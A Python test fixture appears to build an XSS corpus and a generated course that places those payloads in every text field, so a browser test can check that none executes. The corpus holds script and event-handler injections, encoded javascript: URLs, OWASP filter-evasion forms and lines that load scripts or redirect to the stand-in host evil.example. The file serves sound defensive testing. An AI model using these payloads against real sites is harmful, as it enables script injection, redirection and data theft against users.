"""An XSS corpus, and a course that carries it in every text field an instructor can write.

Each payload, if it ever ran, would set ``window.__xss`` or open an alert; the browser test
fails on either. Payloads cover raw tags, event handlers, script URLs (plain, mixed case,
entity-encoded), early ends of <script> and comments, attribute break-outs, Markdown link and
attribute-list syntax, and Unicode tricks.
"""

from __future__ import annotations

import json

PAYLOADS: list[str] = [
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    '<img src=x onerror="window.__xss=1">',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<a href="javascript:window.__xss=1">link</a>',
    "<details open ontoggle=window.__xss=1>",
    '<object data="javascript:window.__xss=1"></object>',
    '<base href="javascript:window.__xss=1//">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    "<style>@import 'javascript:window.__xss=1';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "[click me](javascript:window.__xss=1)",
    "[click me](JaVaScRiPt:window.__xss=1)",
    "[click me](&#106;avascript:window.__xss=1)",
    "[click me](&#x6A;avascript&colon;window.__xss=1)",
    "[click me](java&#x09;script:window.__xss=1)",
    "[click me](<javascript:window.__xss=1>)",
    "[click me](vbscript:msgbox(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
    "![pic](javascript:window.__xss=1)",
    '![pic](x" onerror="window.__xss=1)',
    "<javascript:window.__xss=1>",
    "[ref link][x]\n\n[x]: javascript:window.__xss=1",
    'text { onclick="window.__xss=1" }',
    "text {: onmouseover=window.__xss=1 }",
    "</script><script>window.__xss=1</script>",
    "<!-- <script>window.__xss=1</script> -->",
    "--><script>window.__xss=1</script><!--",
    '" onmouseover="window.__xss=1" x="',
    "' onfocus='window.__xss=1' autofocus x='",
    "'><svg onload=window.__xss=1>",
    '"><img src=x onerror=window.__xss=1>',
    "}}{{ 7*7 }}{% if 1 %}jinja{% endif %}",
    "${window.__xss=1}",
    "line\u2028separator\u2029<script>window.__xss=1</script>",
    "\u202eright-to-left override <script>window.__xss=1</script>",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "\u0000null and \ufeffBOM <img src=x onerror=window.__xss=1>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "`</script>` <!-- and \\<script\\>window.__xss=1\\</script\\>",
    # Round two: break-outs of the article and the page, and elements that change the page.
    "</article><script>window.__xss=1</script>",
    "</div></article></main><script>window.__xss=1</script>",
    "</body></html><script>window.__xss=1</script>",
    "<template><script>window.__xss=1</script></template><img src=x onerror=window.__xss=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<!-- unclosed comment <script>window.__xss=1</script>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Send</button></form>',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
    "<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x=20 y=20>svg link</text></a></svg>',
    "<math><maction actiontype=statusline "
    "xlink:href=javascript:window.__xss=1>math</maction></math>",
    '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
    '<svg></p><style><a id="</style><img src=x onerror=window.__xss=1>">',
    # OWASP filter-evasion forms.
    '<IMG SRC="jav&#x09;ascript:window.__xss=1">',
    "<IMG SRC=javascript:window.__xss=1>",
    '<IMG """><SCRIPT>window.__xss=1</SCRIPT>"\\>',
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    "<BODY onload=window.__xss=1>",
    "<<SCRIPT>window.__xss=1;//\\<</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:window.__xss=1">',
    '<LINK REL="stylesheet" HREF="https://evil.example/x.css">',
    '<TABLE BACKGROUND="javascript:window.__xss=1">',
    '<DIV STYLE="background-image: url(javascript:window.__xss=1)">',
    "<a "
    'href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058window.__xss=1">entity '
    "link</a>",
    '<a href="  javascript:window.__xss=1">spaced link</a>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<video><source onerror="window.__xss=1"></video>',
    "<audio src=x onerror=window.__xss=1>",
    '<details open ontoggle="window.__xss=1"><summary>s</summary></details>',
    '<img src="https://evil.example/beacon.gif" alt="beacon">',
]
"""Each string is one payload; together they are placed in every text field."""


def _p(i: int, label: str) -> str:
    """Payload ``i`` (cycling), tagged so each field's text is unique."""
    return f"{label} {i} {PAYLOADS[i % len(PAYLOADS)]}"


def _q(text: str) -> str:
    """A YAML double-quoted scalar (JSON is valid YAML for strings)."""
    return json.dumps(text, ensure_ascii=False)


class _Counter:
    def __init__(self) -> None:
        self.i = 0
        self.fields = 0

    def __call__(self, label: str) -> str:
        """The next payload as a quoted YAML scalar."""
        self.fields += 1
        self.i += 1
        return _q(_p(self.i, label))

    def all(self, label: str) -> str:
        """Every payload joined into one text (for block fields)."""
        self.fields += 1
        return _q(label + "\n\n" + "\n\n".join(PAYLOADS))

    def body(self, label: str) -> str:
        """Every payload for a trusted body, except `<meta http-equiv="refresh">`, which `check`
        refuses in a body (an error, tested on its own)."""
        self.fields += 1
        return _q(label + "\n\n" + "\n\n".join(p for p in PAYLOADS if "refresh" not in p))


def strings_block(n: _Counter) -> str:
    """A `strings:` override for every UI string key, each carrying a payload."""
    from generator.core.languages import load_strings

    # Each keeps its English text first, so the browser tests still find buttons by their names.
    english = load_strings("en", {})
    return "strings:\n" + "".join(f"  {k}: {n(english[k])}\n" for k in sorted(english))


def course_files() -> tuple[dict[str, str], int]:
    """The XSS course as {path: text} and the number of text fields that carry payloads."""
    n = _Counter()
    manifest = f"""\
title: {n("Course")}
description: {n.body("Description")}
authors:
  - name: {n("Author")}
    role: {n("Role")}
license: {n("Licence")}
lessons: [xss]
pages: [safe]
notice: {n("Notice")}
references:
  - id: r1
    text: {n("Reference")}
    url: https://example.org/a(b)"c'<d>
    note: {n("Note")}
""" + strings_block(n)
    lesson = f"""\
id: xss
slug: xss-lesson
title: {n("Lesson title")}
summary: {n("Summary")}
minutes: 5
notice: {n("Lesson notice")}
objectives:
  - id: o1
    text: {n("Objective")}
    section: s1
sections:
  - id: s1
    title: {n("Section title")}
    body: A clean body; the next section's body carries every payload.
  - id: s2
    title: {n("Second section")}
    body: {n.body("Section body")}
key_terms:
  - term: {n("Term")}
    definition: {n.all("Definition")}
  - term: {n("Term two")}
    definition: {n("Definition two")}
evidence:
  - claim: {n("Claim")}
    status: research
    note: {n.all("Evidence note")}
    references: [r1]
reflections:
  - id: refl1
    prompt: {n.all("Reflection prompt")}
    hint: {n("Reflection hint")}
references: [r1]
assessments:
  - bank: xss-bank
    title: {n("Placement title")}
    after: s1
  - bank: xss-sc
    after: s1  # both quizzes come before the hostile body (issue 17: the export then kept raw
               # bodies, whose unclosed elements hid what followed)
"""
    options = "\n".join(
        f"""\
      - id: {oid}
        text: {n("Option " + oid)}
        correct: {"true" if oid == "a" else "false"}
        feedback: {n.all("Feedback " + oid) if oid == "b" else n("Feedback " + oid)}"""
        for oid in ("a", "b", "c")
    )
    moptions = "\n".join(
        f"""\
      - id: {oid}
        text: {n("Multi option " + oid)}
        correct: {"true" if oid in "ab" else "false"}
        feedback: {n("Multi feedback " + oid)}"""
        for oid in ("a", "b", "c")
    )
    bank = f"""\
id: xss-bank
title: {n("Bank title")}
questions:
  - id: xq1
    type: single_choice
    objectives: [o1]
    scenario: {n.all("Scenario")}
    prompt: {n("Prompt")}
    explanation: {n.all("Explanation")}
    lint: {{ignore: [near_duplicate_options], reason: "The options are payload variants, not answers."}}
    options:
{options}
  - id: xq2
    type: multiple_choice
    objectives: [o1]
    lint: {{ignore: [near_duplicate_options], reason: "The options are payload variants, not answers."}}
    prompt: {n("Multi prompt")}
    explanation: {n("Multi explanation")}
    options:
{moptions}
  - id: xq3
    type: ordering
    objectives: [o1]
    scenario: {n("Ordering scenario")}
    prompt: {n("Ordering prompt")}
    explanation: {n("Ordering explanation")}
    items:
      - {{id: i1, text: {n("Item one")}}}
      - {{id: i2, text: {n("Item two")}}}
      - {{id: i3, text: {n("Item three")}}}
  - id: xq4
    type: reflection
    objectives: [o1]
    prompt: {n("Bank reflection")}
    hint: {n("Bank reflection hint")}
"""  # noqa: E501 (sample text kept as written)
    sc = f"""\
id: xss-sc
questions:
  - id: xsc
    type: self_check
    objectives: [o1]
    title: {n("Self-check title")}
    instructions: {n.all("Instructions")}
    notice: {n("Self-check notice")}
    scale:
      anchors:
        - {{value: 1, label: {n("Anchor one")}}}
        - {{value: 2, label: {n("Anchor two")}}}
        - {{value: 3, label: {n("Anchor three")}}}
      not_applicable: {n("Not applicable")}
    bands:
      - {{id: low, label: {n("Band low")}, when: "mean < 2"}}
      - {{id: high, label: {n("Band high")}, when: "mean >= 2"}}
    subscales:
      - id: sub1
        title: {n("Subscale one")}
        description: {n("Subscale description")}
        band_text: {{low: {n.all("Band text low")}, high: {n.all("Band text high")}}}
      - id: sub2
        title: {n("Subscale two")}
        band_text: {{low: {n("Band text 2 low")}, high: {n("Band text 2 high")}}}
    overall:
      title: {n("Overall title")}
      band_text: {{low: {n("Overall low")}, high: {n("Overall high")}}}
    items:
      - {{id: it1, text: {n("Statement one")}, subscale: sub1}}
      - {{id: it2, text: {n("Statement two")}, subscale: sub1, reverse: true}}
      - {{id: it3, text: {n("Statement three")}, subscale: sub2}}
      - {{id: it4, text: {n("Statement four")}, subscale: sub2}}
"""
    page = f"""\
id: safe
slug: safe-page
title: {n("Page title")}
summary: {n("Page summary")}
quick_exit: true
resources: true
sections:
  - id: p1
    title: {n("Page section")}
    body: {n.body("Page body")}
"""
    resources = f"""\
last_verified: 2099-01-01
groups:
  - title: {n("Group")}
    items:
      - name: {n("Service")}
        contact: {n("Contact")}
        url: https://example.org/x)"onmouseover="window.__xss=1
        description: {n("Description")}
"""
    mkdocs = f"""\
site_name: {n("Site name")}
docs_dir: docs
theme:
  name: material
  font: false
  features:
    - navigation.instant
plugins:
  - search
  - course
"""
    files = {
        "mkdocs.yml": mkdocs,
        "course/course.yml": manifest,
        "course/lessons/xss.yml": lesson,
        "course/pages/safe.yml": page,
        "course/resources.yml": resources,
        "quizzes/xss-bank.yml": bank,
        "quizzes/xss-sc.yml": sc,
    }
    return files, n.fields
